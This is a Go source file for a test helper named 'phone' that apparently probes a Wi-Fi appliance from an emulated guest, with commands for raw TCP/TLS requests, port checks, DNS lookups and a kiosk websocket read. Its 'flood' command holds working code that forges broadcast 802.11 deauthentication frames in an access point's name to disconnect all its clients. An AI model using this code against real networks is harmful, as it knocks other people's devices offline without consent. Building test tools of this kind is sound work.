// Command phone is what a phone does on the box's own Wi-Fi, in the guest: the proofs run it
// in the network namespace that has the phone's radio.
//
//	phone ask tcp|tls ADDR:PORT BASE64   sends bytes; prints "print HEX" of the certificate
//	                                     and "answer BASE64"
//	phone try ADDR PORT…                 prints "PORT open", "PORT refused" or "PORT silent"
//	phone name NAME SERVER               prints the addresses that a name has there
//	phone kiosk                          prints what the box's own screen is told to show
//	phone flood PORT MAC SECONDS         throws all clients of an access point off, as the
//	                                     radio PORT, which must be a monitor
package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"sync"
	"syscall"
	"time"

	"github.com/gorilla/websocket"
	"golang.org/x/sys/unix"
)

// patience is how long an answer may take: the processor is emulated.
const patience = 20 * time.Second

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "phone:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	switch {
	case len(args) == 4 && args[0] == "ask":
		return ask(args[1], args[2], args[3])
	case len(args) > 2 && args[0] == "try":
		return try(args[1], args[2:])
	case len(args) == 3 && args[0] == "name":
		return name(args[1], args[2])
	case len(args) == 1 && args[0] == "kiosk":
		return kiosk()
	case len(args) == 4 && args[0] == "flood":
		return flood(args[1], args[2], args[3])
	}
	return errors.New("usage: see the head of its source")
}

func ask(how, addr, text string) error {
	request, err := base64.StdEncoding.DecodeString(text)
	if err != nil {
		return err
	}
	conn, err := net.DialTimeout("tcp4", addr, patience)
	if err != nil {
		return err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(patience))
	if how == "tls" {
		secure := tls.Client(conn, &tls.Config{InsecureSkipVerify: true}) // its certificate is its own: phones are shown its fingerprint
		if err := secure.Handshake(); err != nil {
			return err
		}
		fmt.Printf("print %x\n", sha256.Sum256(secure.ConnectionState().PeerCertificates[0].Raw))
		conn = secure
	}
	if _, err := conn.Write(request); err != nil {
		return err
	}
	// Whoever closes a connection without TLS's own goodbye has said all the same.
	answer, err := io.ReadAll(conn)
	if len(answer) == 0 && err != nil {
		return err
	}
	fmt.Println("answer", base64.StdEncoding.EncodeToString(answer))
	return nil
}

func try(addr string, ports []string) error {
	var wg sync.WaitGroup
	said := make([]string, len(ports))
	for i, port := range ports {
		wg.Go(func() {
			conn, err := net.DialTimeout("tcp4", net.JoinHostPort(addr, port), 3*time.Second)
			switch {
			case err == nil:
				conn.Close()
				said[i] = "open"
			case errors.Is(err, syscall.ECONNREFUSED):
				said[i] = "refused"
			default:
				said[i] = "silent"
			}
		})
	}
	wg.Wait()
	for i, port := range ports {
		fmt.Println(port, said[i])
	}
	return nil
}

func name(what, server string) error {
	resolver := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		return new(net.Dialer).DialContext(ctx, network, net.JoinHostPort(server, "53"))
	}}
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	addrs, err := resolver.LookupNetIP(ctx, "ip4", what)
	for _, a := range addrs {
		fmt.Println(a)
	}
	return err
}

func kiosk() error {
	const box = "127.0.0.1:8080"
	d := websocket.Dialer{HandshakeTimeout: patience}
	conn, _, err := d.Dial("ws://"+box+"/ws/kiosk", http.Header{"Origin": {"http://" + box}})
	if err != nil {
		return err
	}
	defer conn.Close()
	conn.SetReadDeadline(time.Now().Add(patience))
	_, message, err := conn.ReadMessage()
	fmt.Println(string(message))
	return err
}

// flood sends frames that say, in the access point's name, that everybody has to go
// (IEEE 802.11, 9.3.3.11): nothing in them is signed where management frames are not
// protected.
func flood(port, mac, seconds string) error {
	point, err := net.ParseMAC(mac)
	if err != nil {
		return err
	}
	n, err := strconv.Atoi(seconds)
	if err != nil {
		return err
	}
	i, err := net.InterfaceByName(port)
	if err != nil {
		return err
	}
	all := uint16(unix.ETH_P_ALL<<8&0xff00 | unix.ETH_P_ALL>>8)
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(all))
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: all, Ifindex: i.Index}); err != nil {
		return err
	}
	frame := bytes.Join([][]byte{
		{0, 0, 8, 0, 0, 0, 0, 0},             // radiotap: nothing to say
		{0xc0, 0, 0, 0},                      // deauthentication
		{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, // to all
		point, point,                         // from the access point, of its network
		{0, 0, 7, 0}, // reason 7
	}, nil)
	sent := 0
	for end := time.Now().Add(time.Duration(n) * time.Second); time.Now().Before(end); sent++ {
		if _, err := unix.Write(fd, frame); err != nil {
			return err
		}
		time.Sleep(50 * time.Millisecond)
	}
	fmt.Println("sent", sent)
	return nil
}
